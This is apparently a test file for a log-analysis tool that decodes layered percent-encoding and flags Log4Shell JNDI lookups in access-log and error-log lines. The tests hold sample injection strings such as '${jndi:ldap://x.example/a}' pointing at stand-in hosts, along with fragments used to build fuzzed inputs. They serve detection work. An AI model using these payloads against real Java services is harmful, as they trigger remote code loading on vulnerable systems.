import fc from 'fast-check'
import { expect, test } from 'vitest'
import { instant } from '../core/index.ts'
import { explainLine } from './explain-line.ts'

const around = instant('2021-12-12T00:00:00Z')

test('shows each layer as it is taken off, in the field that it is in', () => {
  const line =
    '203.0.113.9 - - [10/Dec/2021:03:00:00 +0000] "GET /?q=%2524%257Bjndi:ldap://x.example/a%257D HTTP/1.1" 200 5 "-" "curl"'
  const { format, record, payloads, trace } = explainLine(line, around)

  expect({ format, from: record.from, when: record.when, trace }).toEqual({
    format: 'combined',
    from: '203.0.113.9',
    when: instant('2021-12-10T03:00:00Z'),
    trace: null,
  })
  expect(
    payloads.map(({ field, written, peeled, text, reading }) => [field, written, peeled, text, reading.verdict]),
  ).toEqual([
    [
      'request',
      'GET /?q=%2524%257Bjndi:ldap://x.example/a%257D HTTP/1.1',
      [
        { layer: 'percent', text: 'GET /?q=%24%7Bjndi:ldap://x.example/a%7D HTTP/1.1' },
        { layer: 'percent', text: 'GET /?q=${jndi:ldap://x.example/a} HTTP/1.1' },
      ],
      '${jndi:ldap://x.example/a} HTTP/1.1',
      'fires',
    ],
  ])
})

test('tells a trace of a lookup that was evaluated', () => {
  const line =
    '2021-12-10 12:43:13,416 main WARN Error looking up JNDI resource [ldap://127.0.0.1/a]. javax.naming.CommunicationException'

  expect(explainLine(line, around).trace).toMatchObject({ name: 'ldap://127.0.0.1/a' })
})

test('the last of the layers gives the text that is read, whatever the line', () => {
  const piece = fc.constantFrom(
    '${',
    '}',
    'jndi:',
    'ldap://x/a',
    '%24%7B',
    '%7D',
    '\\u0024{',
    '&#36;',
    '"',
    ' ',
    'Basic ',
    '%25',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (parts) => {
      for (const { written, peeled, text } of explainLine(parts.join(''), around).payloads)
        expect((peeled.at(-1)?.text ?? written).endsWith(text)).toBe(true)
    }),
  )
})
